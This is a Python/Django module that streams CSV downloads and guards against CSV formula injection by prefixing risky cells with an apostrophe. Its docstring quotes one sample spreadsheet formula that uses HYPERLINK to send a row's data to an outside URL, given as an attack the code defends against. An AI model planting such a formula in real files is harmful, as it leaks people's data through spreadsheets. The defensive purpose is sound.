"""Every CSV file the app lets someone download is written here.

A spreadsheet runs a cell that starts with = + - or @ as a formula, and may skip a leading tab,
carriage return or NUL to find one: a visitor who types their name as
=HYPERLINK("https://…?"&B2, "Open") at the kiosk would put a link in the office's copy of the
visitor log that sends the rest of the row away. As OWASP advises against CSV injection, every
text cell that starts with one of those characters gets a leading apostrophe, which spreadsheets
show as text and never run. Every cell, not only those thought to hold typed text: a policy
title, a problem quoting a roster value and a version number are someone's typing too.
"""

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def neutralise(value: object) -> object:
    # A number is written as digits, so it cannot be a formula; -3 stays a number to sort by.
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class _Line:
    """A file that hands back what is written to it: csv.writer then returns each line."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV text of rows, one line at a time, every cell neutralised."""
    writer = csv.writer(_Line())
    for row in rows:
        yield writer.writerow([neutralise(v) for v in row])


def csv_download(rows: Iterable[Iterable[object]], *, filename: str) -> StreamingHttpResponse:
    """A CSV attachment streamed row by row, so a long file is never held in memory."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
